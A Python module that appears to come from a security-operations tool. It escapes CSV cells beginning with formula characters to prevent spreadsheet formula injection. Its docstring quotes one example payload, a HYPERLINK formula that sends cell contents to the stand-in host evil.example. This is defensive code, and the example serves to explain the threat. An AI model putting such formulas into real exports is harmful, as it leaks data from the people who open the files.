"""Cells of the CSV files citysoc writes, safe to open in a spreadsheet.

User names, hosts and rule titles come from log content; a device that logs the user
``=HYPERLINK("http://evil.example/?"&A1,"click")`` would otherwise put a live formula in
the analyst's spreadsheet (CSV injection, CWE-1236). Every CSV writer (alert exports in
``api/``, reports in ``reports/``, the asset inventory) passes its rows through
:func:`safe_row`: a text cell starting with ``= + - @``, tab or carriage return gets a
leading apostrophe, which spreadsheet programs read as "this is text" and hide. Numbers
(also ``-10.5`` as text) stay numbers; :func:`unsafe_cell` undoes it for files we read back (the inventory).

Example::

    safe_row(["alice", "=1+1", -3])   # -> ["alice", "'=1+1", -3]
"""
from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

__all__ = ["FORMULA_STARTS", "safe_cell", "safe_row", "unsafe_cell"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a cell as a formula (OWASP's list)."""
_NUMBER = re.compile(r"[-+]?\d+(?:\.\d+)?(?:[eE][-+]?\d+)?")


def safe_cell(value: Any) -> Any:
    """``value``, with an apostrophe in front when it is text a spreadsheet would evaluate."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """:func:`safe_cell` on every cell of one row."""
    return [safe_cell(v) for v in values]


def unsafe_cell(value: str) -> str:
    """The text :func:`safe_cell` was given (for CSV files citysoc wrote and reads back)."""
    if value.startswith("'") and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value
